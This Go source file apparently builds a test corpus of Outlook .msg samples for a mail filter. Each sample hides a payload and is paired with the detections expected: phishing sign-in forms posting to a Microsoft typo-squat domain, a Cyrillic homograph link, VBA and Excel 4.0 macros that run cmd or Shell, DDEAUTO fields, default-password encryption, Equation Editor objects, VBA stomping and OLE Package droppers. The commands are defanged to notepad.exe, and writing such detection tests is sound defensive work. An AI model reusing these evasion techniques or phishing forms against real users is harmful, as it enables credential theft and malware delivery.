package corpus

import (
	"fmt"

	"github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/policy"
)

// Outlook .msg files (forwarded "as attachment", phishing reports): what
// Outlook shows of them is the attachments under their names, the HTML or
// RTF body, and embedded messages. Each sample hides its payload where a
// reader of bare compound-file streams would not look; the clean one is an
// ordinary forwarded message.

const outlookType = "application/vnd.ms-outlook"

func outlookSamples() []Sample {
	bad := func(name, about string, a policy.Action, wants ...Want) Sample {
		return Sample{Name: name, About: about, Action: a, Want: wants}
	}
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	fwd := func(subject, note string, m formats.Msg) mail {
		return mail{subject: subject, root: multipart("mixed", text(note+"\n"), attach(outlookType, "forwarded.msg", formats.MsgBytes(m)))}
	}
	headers := "Received: from mx.supplier.example.net (mx.supplier.example.net [192.0.2.25])\r\n" +
		"From: Supplier <billing@supplier.example.net>\r\nTo: orders@shop.example.com\r\nSubject: Invoice 2024-117\r\n"

	add(bad("msg-script-pdf-name", "a .msg whose attachment Outlook lists as invoice.pdf and saves as invoice.pdf.js, a JScript dropper", policy.Reject,
		w("yara", "Kensa_Script_Dropper", "2/forwarded.msg/invoice.pdf.js"),
		w("heuristic", "double-extension", "2/forwarded.msg/invoice.pdf.js"),
		w("heuristic", "filename-mismatch", "2/forwarded.msg/invoice.pdf.js")),
		fwd("Fwd: Invoice", "Forwarding the supplier's mail as an attachment.", formats.Msg{
			Subject: "Invoice 2024-117", Headers: headers, Body: "Please find the invoice attached.\r\n",
			Attachments: []formats.MsgAttachment{{LongName: "invoice.pdf.js", Name: "INVOIC~1.JS", DisplayName: "invoice.pdf",
				MIMETag: "application/pdf", Data: []byte(jsDropper)}},
		}))

	add(bad("msg-hta-display-name", "a .msg attachment whose display name says statement.pdf and whose file name is statement.hta", policy.Reject,
		w("yara", "Kensa_Script_Dropper", "2/forwarded.msg/statement.hta"),
		w("heuristic", "filename-mismatch", "2/forwarded.msg/statement.hta")),
		fwd("Fwd: Statement", "See the forwarded statement.", formats.Msg{
			Subject: "Statement", Body: "Your statement is attached.\r\n",
			Attachments: []formats.MsgAttachment{{LongName: "statement.hta", DisplayName: "statement.pdf", LongName8: "statement.pdf",
				Data: []byte(htaDrop)}},
		}))

	add(bad("msg-html-phish", "a .msg whose HTML body (what Outlook shows) is a credential form on a Microsoft lookalike; the plain body is harmless", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2/forwarded.msg/body.html"),
		w("heuristic", "html-credential-form", "2/forwarded.msg/body.html")),
		fwd("Fwd: Mailbox quota", "Is this real? Forwarding as attachment.", formats.Msg{
			Subject: "Mailbox quota", Body: "Your mailbox is almost full.\r\n", CodePage: 65001,
			HTML: []byte(`<html><body><p>Your mailbox is full. Sign in to keep your mail:</p>` +
				`<form method="post" action="https://secure-micorsoft-login.com/owa/auth"><input type="email" name="u">` +
				`<input type="password" name="p"><button>Sign in</button></form></body></html>`),
		}))

	add(bad("msg-rtf-phish", "a .msg with only a compressed RTF body that encapsulates HTML (as Outlook stores HTML mail): a sign-in form posting to a lookalike", policy.Quarantine,
		w("heuristic", "html-credential-form", "2/forwarded.msg/body-rtf.html"),
		w("heuristic", "lookalike-domain", "2/forwarded.msg/body.rtf")),
		fwd("Fwd: Password expiry", "Forwarded for review.", formats.Msg{
			Subject: "Password expiry",
			RTF: []byte(`{\rtf1\ansi\ansicpg1252\fromhtml1 \deff0{\fonttbl{\f0\fswiss Arial;}}` +
				`{\*\htmltag19 <html>}{\*\htmltag50 <body>}\htmlrtf {\htmlrtf0 Your password expires today.\par ` +
				`{\*\htmltag84 <form method="post" action="https://secure-micorsoft-login.com/owa/auth">}` +
				`{\*\htmltag84 <input type="password" name="p">}{\*\htmltag84 <button>}\htmlrtf {\field{\*\fldinst FORMTEXT}}\htmlrtf0 Keep my password` +
				`{\*\htmltag92 </button></form>}\htmlrtf }\htmlrtf0 {\*\htmltag58 </body>}{\*\htmltag27 </html>}}`),
		}))

	add(bad("msg-text-body-lookalike", "a .msg with only a plain-text body (UTF-16, as Outlook stores it) linking to a Microsoft typo-squat", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2/forwarded.msg/body.txt")),
		fwd("Fwd: Mailbox full", "Got this today, is it real?", formats.Msg{
			Subject: "Mailbox full", Body: "Your mailbox is full.\r\nGet more space: https://secure-micorsoft-login.com/owa\r\nIT Service Desk\r\n",
		}))

	// "https://www.раураl.com/signin" with Cyrillic р, а, у in Windows-1251.
	cyrillic := append(append([]byte("Unusual sign-in. Review your account: https://www."), 0xF0, 0xE0, 0xF3, 0xF0, 0xE0), "l.com/signin\r\n"...)
	add(bad("msg-codepage-body-homograph", "a .msg whose 8-bit body in code page 1251 links to paypal.com spelled with Cyrillic letters", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2/forwarded.msg/body.txt")),
		fwd("Fwd: Unusual sign-in", "Forwarding as attachment.", formats.Msg{
			Subject: "Unusual sign-in", Body8: cyrillic, CodePage: 1251,
		}))

	add(bad("msg-ole-document-macro", "a .msg (RTF mail) with a Word document embedded as an OLE object (attach method 6) whose VBA runs Shell from AutoOpen", policy.Reject,
		w("heuristic", "vba-autorun-exec", "2/forwarded.msg/Document/vba/NewMacros")),
		fwd("Fwd: Order", "Forwarding the order with the document inside.", formats.Msg{
			Subject: "Order 4711", Body: "The order form is inside this message.\r\n",
			Attachments: []formats.MsgAttachment{{DisplayName: "Document", Method: 6,
				OLE: wordDocEntries("Order 4711", formats.VBAModule{Name: "NewMacros", Source: vbaAutoOpenShell})}},
		}))

	// Office documents as OLE attachments (attach method 6): Outlook
	// starts the application the storage's class names on the storage, as
	// if the document were attached on its own, so each is read as that
	// document is (the samples in officeattacks.go), below the attachment.
	xlm := formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Sheet1"}, {Name: "Macro1", Macro: true, State: 2, Formulas: []formats.XLSFormula{
		{Row: 0, Col: 0, Rgce: formats.Cat(formats.PtgStr("cmd /c notepad.exe"), formats.PtgFuncVar(1, formats.FtabExec, false))}}}},
		Names: []formats.XLSName{{Builtin: 1, Rgce: formats.PtgRef3d(1, 0, 0)}}}
	slideVBA := formats.VBAProject(formats.VBAModule{Name: "Slide1", Source: "Attribute VB_Name = \"Slide1\"\r\nPrivate Sub TextBox1_GotFocus()\r\n    Shell \"cmd.exe /c notepad.exe\", vbHide\r\nEnd Sub\r\n"})
	ole := func(name string, class []byte, entries []formats.CFBEntry) formats.Msg {
		return formats.Msg{Subject: "Order 4711", Body: "The document is inside this message.\r\n",
			Attachments: []formats.MsgAttachment{{DisplayName: name, Method: 6, Class: class, OLE: entries}}}
	}
	add(bad("msg-ole-xls-xlm-autoopen", "a .msg whose OLE attachment is an Excel 97 workbook with a hidden Auto_Open macro sheet that runs EXEC", policy.Reject,
		w("heuristic", "xlm-autorun-exec", "2/forwarded.msg/Invoice/xlm/Macro1")),
		fwd("Fwd: Invoice", "Forwarding the invoice workbook.", ole("Invoice", clsidExcel, formats.XLSEntries(xlm))))
	add(bad("msg-ole-xls-message-decoy", "a .msg whose OLE attachment is an Auto_Open EXEC workbook whose storage also holds a property stream and a body stream, so that a reader going by the streams takes it for an embedded message; Outlook goes by the attach method and starts Excel", policy.Reject,
		w("heuristic", "xlm-autorun-exec", "2/forwarded.msg/Invoice/xlm/Macro1")),
		fwd("Fwd: Invoice", "Forwarding the invoice workbook.", ole("Invoice", clsidExcel, append(formats.XLSEntries(xlm),
			formats.CFBEntry{Name: "__properties_version1.0", Parent: -1, Data: make([]byte, 24)},
			formats.CFBEntry{Name: "__substg1.0_1000001F", Parent: -1, Data: []byte("I\x00n\x00v\x00o\x00i\x00c\x00e\x00")}))))
	add(bad("msg-ole-xls-dde", "a .msg whose OLE attachment is a workbook whose external link is a DDE conversation with cmd", policy.Reject,
		w("heuristic", "dde-exec", "2/forwarded.msg/Figures/dde-links")),
		fwd("Fwd: Figures", "Forwarding the figures.", ole("Figures", clsidExcel, formats.XLSEntries(formats.XLSWorkbook{
			Sheets: []formats.XLSSheet{{Name: "Sheet1", Formulas: []formats.XLSFormula{{Row: 0, Col: 0, Rgce: formats.PtgNameX(1, 1)}}}},
			DDE:    [][2]string{{"cmd", "/c notepad.exe"}}}))))
	add(bad("msg-ole-ppt-vba", "a .msg whose OLE attachment is a PowerPoint 97 presentation whose VBA project, inside the PowerPoint Document stream, runs Shell from an ActiveX event", policy.Reject,
		w("heuristic", "vba-autorun-exec", "2/forwarded.msg/Slides/embedding1.bin/vba/Slide1")),
		fwd("Fwd: Slides", "Forwarding the slides.", ole("Slides", clsidPowerPoint, formats.PPTEntries(formats.PPTOptions{VBA: slideVBA}))))
	add(bad("msg-ole-xls-velvetsweatshop-xlm", "a .msg whose OLE attachment is a workbook encrypted under VelvetSweatshop (Excel opens it without a prompt), hiding an Auto_Open EXEC macro sheet", policy.Reject,
		w("heuristic", "xlm-autorun-exec", "2/forwarded.msg/Invoice/xlm/Macro1")),
		fwd("Fwd: Invoice", "Forwarding the invoice workbook.", ole("Invoice", clsidExcel, formats.EncryptedXLSEntries(xlm, formats.DefaultOfficePassword))))
	add(bad("msg-ole-xls-encrypted-unknown", "a .msg whose OLE attachment is a workbook encrypted under a password that appears nowhere: unscannable, as the workbook on its own is", policy.Quarantine,
		w("kensa", "encrypted-document", "2/forwarded.msg/Invoice")),
		fwd("Fwd: Invoice", "Forwarding the invoice workbook.", ole("Invoice", clsidExcel, formats.EncryptedXLSEntries(xlm, "unguessable-7Qw"))))
	add(bad("msg-ole-ppt-velvetsweatshop-vba", "a .msg whose OLE attachment is a presentation encrypted with RC4 CryptoAPI under VelvetSweatshop, hiding VBA that runs Shell", policy.Reject,
		w("heuristic", "vba-autorun-exec", "2/forwarded.msg/Slides/embedding1.bin/vba/Slide1")),
		fwd("Fwd: Slides", "Forwarding the slides.", ole("Slides", clsidPowerPoint, formats.PPTEntries(formats.PPTOptions{VBA: slideVBA, Password: formats.DefaultOfficePassword}))))
	add(bad("msg-ole-doc-velvetsweatshop-dde", "a .msg whose OLE attachment is a Word 97 document encrypted under VelvetSweatshop, hiding a DDEAUTO field that starts cmd.exe", policy.Reject,
		w("heuristic", "dde-exec", "2/forwarded.msg/Notice/decrypted/WordDocument")),
		fwd("Fwd: Notice", "Forwarding the notice.", ole("Notice", clsidWord, formats.EncryptWord(
			wordDocEntries("Notice \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k notepad.exe\" \x14!\x15 end"), formats.DefaultOfficePassword, true))))
	add(bad("msg-ole-equation-editor", "a .msg whose OLE attachment is an Equation Editor 3.0 object (the CVE-2017-11882 family): Outlook starts EQNEDT32 on it", policy.Reject,
		w("heuristic", "equation-editor", "2/forwarded.msg/Quotation"),
		w("heuristic", "equation-editor", "2/forwarded.msg/Quotation/Equation Native")),
		fwd("Fwd: Quotation", "Forwarding the quotation.", ole("Quotation", formats.EquationCLSID, formats.EquationEntries())))
	add(bad("msg-ole-equation-clsid-only", "a .msg whose OLE attachment claims to be a Word document in its CompObj stream: only the storage's class says Equation.3", policy.Reject,
		w("heuristic", "equation-editor", "2/forwarded.msg/Order")),
		fwd("Fwd: Order", "Forwarding the order.", ole("Order", formats.EquationCLSID, []formats.CFBEntry{
			{Name: "\x01CompObj", Parent: -1, Data: formats.CompObj("Microsoft Word 97-2003 Document", "Word.Document.8")},
			{Name: "Contents", Parent: -1, Data: []byte("Kensa corpus stand-in")}})))
	add(bad("msg-ole-doc-vba-stomped", "a .msg whose OLE attachment is a Word document whose module source was blanked while its p-code still runs cmd (VBA stomping)", policy.Quarantine,
		w("heuristic", "vba-stomping", "2/forwarded.msg/Form/vba-pcode/NewMacros")),
		fwd("Fwd: Form", "Forwarding the form.", ole("Form", clsidWord, wordDocEntries("Form", formats.VBAModule{Name: "NewMacros", Source: "Attribute VB_Name = \"NewMacros\"\r\n",
			PCode: []byte("\x00\x01\x1b\x00cmd.exe /c notepad.exe\x00\x27\x00WScript.Shell\x00\x00")}))))
	add(bad("msg-ole-package-js", "a .msg whose OLE attachment is an OLE Package carrying a JScript dropper (double-click runs it)", policy.Reject,
		w("yara", "Kensa_Script_Dropper", "2/forwarded.msg/Invoice/Ole10Native/invoice.js"),
		w("heuristic", "executable-in-container", "2/forwarded.msg/Invoice/Ole10Native/invoice.js")),
		fwd("Fwd: Invoice", "Forwarding the invoice.", ole("Invoice", clsidPackage, formats.PackageEntries("invoice.js", []byte(jsDropper)))))

	inner := formats.Msg{Subject: "Setup", Body: "Install the attached tool.\r\n",
		Attachments: []formats.MsgAttachment{{LongName: "setup.exe", Data: fakePE("outlook embedded")}}}
	middle := formats.Msg{Subject: "Fwd: Setup", Body: "Forwarded.\r\n",
		Attachments: []formats.MsgAttachment{{DisplayName: "Setup", Method: 5, Embedded: &inner}}}
	add(bad("msg-embedded-pe", "a program two embedded messages deep in a .msg", policy.Quarantine,
		w("heuristic", "executable-in-container", "2/forwarded.msg/Fwd Setup.msg/Setup.msg/setup.exe")),
		fwd("Fwd: Fwd: Setup", "Forwarding the whole thread.", formats.Msg{
			Subject: "Fwd: Fwd: Setup", Body: "See below.\r\n",
			Attachments: []formats.MsgAttachment{{DisplayName: "Fwd Setup", Method: 5, Embedded: &middle}},
		}))

	out = append(out, build(Sample{Name: "msg-forwarded-pdf", Clean: true,
		About: "an ordinary Outlook message forwarded as attachment: text, HTML and RTF bodies, a PDF invoice and a spreadsheet with its 8.3 short name"},
		fwd("Fwd: Invoice", "Forwarding the supplier's invoice for approval.", formats.Msg{
			Subject: "Invoice 2024-117", Headers: headers, CodePage: 1252,
			Body: "Dear customer,\r\nplease find invoice 2024-117 attached.\r\nSupplier billing\r\n",
			HTML: []byte(`<html><body><p>Dear customer,</p><p>please find invoice 2024-117 attached.</p>` +
				`<p>Supplier billing &middot; <a href="https://supplier.example.net/">supplier.example.net</a></p></body></html>`),
			RTF: []byte(`{\rtf1\ansi\ansicpg1252\fromhtml1 \deff0{\fonttbl{\f0\fswiss Arial;}}{\*\htmltag19 <html>}{\*\htmltag50 <body>}` +
				`\htmlrtf {\htmlrtf0 Dear customer,\par please find invoice 2024-117 attached.\htmlrtf }\htmlrtf0 {\*\htmltag58 </body>}{\*\htmltag27 </html>}}`),
			Attachments: []formats.MsgAttachment{{LongName: "invoice-2024-117.pdf", Name: "INVOIC~1.PDF", DisplayName: "invoice-2024-117.pdf",
				Extension: ".pdf", MIMETag: "application/pdf", Data: invoicePDF()},
				// Outlook's 8.3 short name cuts .xlsx to .XLS; the display name may have no extension.
				{LongName: "figures-q3.xlsx", Name: "FIGURE~1.XLS", DisplayName: "figures-q3", Extension: ".xlsx",
					MIMETag: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
					Data:    xlsx([][]string{{"Item", "Amount"}, {"Paper", "240.00"}, {"Toner", "312.50"}}, nil)}},
		})))
	plain := formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Q3", Formulas: []formats.XLSFormula{
		{Row: 0, Col: 0, Rgce: formats.Cat(formats.PtgInt(240), formats.PtgInt(312), formats.PtgFuncVar(2, formats.FtabSum, false))}}}}}
	for _, c := range []struct {
		name, about, display string
		class                []byte
		entries              []formats.CFBEntry
	}{
		{"msg-ole-workbook", "an Outlook message with an Excel 97 workbook embedded as an OLE object (attach method 6), a SUM formula and no macros",
			"Microsoft Excel 97-2003 Worksheet", clsidExcel, formats.XLSEntries(plain)},
		{"msg-ole-workbook-velvetsweatshop", "an Outlook message with a workbook without macros embedded as an OLE object, encrypted under Excel's default password: opened and clean",
			"Microsoft Excel 97-2003 Worksheet", clsidExcel, formats.EncryptedXLSEntries(plain, formats.DefaultOfficePassword)},
		{"msg-ole-word-document", "an Outlook message with a Word 97 document embedded as an OLE object, plain text and no macros",
			"Microsoft Word 97-2003 Document", clsidWord, wordDocEntries("Minutes of the board meeting, 4 March. Present: all members.")},
		{"msg-ole-presentation", "an Outlook message with a PowerPoint 97 presentation embedded as an OLE object, one slide and no macros",
			"Microsoft PowerPoint 97-2003 Presentation", clsidPowerPoint, formats.PPTEntries(formats.PPTOptions{})},
	} {
		out = append(out, build(Sample{Name: c.name, Clean: true, About: c.about},
			fwd("Fwd: Q3 figures", "Forwarding the figures with the document inside.", formats.Msg{
				Subject: "Q3 figures", Body: "The document is inside this message.\r\n", CodePage: 1252,
				Attachments: []formats.MsgAttachment{{DisplayName: c.display, Method: 6, Class: c.class, OLE: c.entries}}})))
	}
	return out
}

// Class IDs of OLE objects as stored (little-endian GUIDs): Excel.Sheet.8
// {00020820-...}, Word.Document.8 {00020906-...}, PowerPoint.Show.8
// {64818D10-4F9B-11CF-86EA-00AA00B929E8}, Package {0003000C-...}.
var (
	clsidExcel      = []byte{0x20, 0x08, 0x02, 0x00, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}
	clsidWord       = []byte{0x06, 0x09, 0x02, 0x00, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}
	clsidPowerPoint = []byte{0x10, 0x8D, 0x81, 0x64, 0x9B, 0x4F, 0xCF, 0x11, 0x86, 0xEA, 0x00, 0xAA, 0x00, 0xB9, 0x29, 0xE8}
	clsidPackage    = []byte{0x0C, 0x00, 0x03, 0x00, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}
)

// invoicePDF is a one-page invoice with its lines in the page text.
func invoicePDF() []byte {
	content := "BT /F1 16 Tf 72 770 Td (Supplier Example Net - Invoice 2024-117) Tj ET\n"
	for i, line := range []string{"Bill to: Example Shop, Orders", "Item 1: Paper, A4, 80 g, 20 boxes   240.00 EUR",
		"Item 2: Toner cartridges, 4 pieces   312.50 EUR", "Item 3: Delivery   15.00 EUR", "Total due within 30 days: 567.50 EUR",
		"Bank transfer to the account on file; reference 2024-117."} {
		content += fmt.Sprintf("BT /F1 11 Tf 72 %d Td (%s) Tj ET\n", 730-18*i, line)
	}
	return formats.PDF(
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
		formats.PDFFlate("", []byte(content)),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	)
}

// OutlookNames are the names of the .msg samples, for the tests that send
// them through a real MTA.
func OutlookNames() map[string]bool {
	out := map[string]bool{}
	for _, s := range outlookSamples() {
		out[s.Name] = true
	}
	return out
}
